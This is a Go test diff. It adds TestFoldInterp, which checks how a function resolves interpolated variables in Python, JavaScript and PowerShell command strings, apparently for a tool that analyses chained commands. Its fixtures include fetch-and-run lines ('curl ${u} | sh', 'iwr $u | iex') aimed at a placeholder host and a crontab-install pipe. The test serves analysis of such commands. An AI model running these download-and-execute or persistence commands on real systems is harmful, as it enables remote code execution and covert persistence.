@@ -184,3 +184,32 @@ func TestChainsImportsPaths(t *testing.T) {
 		}
 	}
 }
+
+func TestFoldInterp(t *testing.T) {
+	vals := map[string]string{"line": "* * * * * x", "$u": "https://h", "u": "https://h", "a.b": "v"}
+	get := func(n string) (string, bool) { v, ok := vals[n]; return v, ok }
+	cases := []struct {
+		body string
+		lang Lang
+		want string
+		ok   bool
+	}{
+		{"echo '{line}' | crontab -", Python, "echo '* * * * * x' | crontab -", true},
+		{"{{literal}} {line}", Python, "{literal} * * * * * x", true},
+		{"{a.b}", Python, "v", true},
+		{"{line!r}", Python, "", false},
+		{"{other}", Python, "", false},
+		{"{len(x)}", Python, "", false},
+		{"curl ${u} | sh", JS, "curl https://h | sh", true},
+		{"cost $5", JS, "cost $5", true},
+		{"iwr $u | iex", PowerShell, "iwr https://h | iex", true},
+		{"iwr ${u}/x", PowerShell, "iwr https://h/x", true},
+		{"$(Get-Date)", PowerShell, "", false},
+	}
+	for _, c := range cases {
+		got, ok := foldInterp(c.body, c.lang, get)
+		if ok != c.ok || got != c.want {
+			t.Errorf("foldInterp(%q, %v) = %q, %v; want %q, %v", c.body, c.lang, got, ok, c.want, c.ok)
+		}
+	}
+}
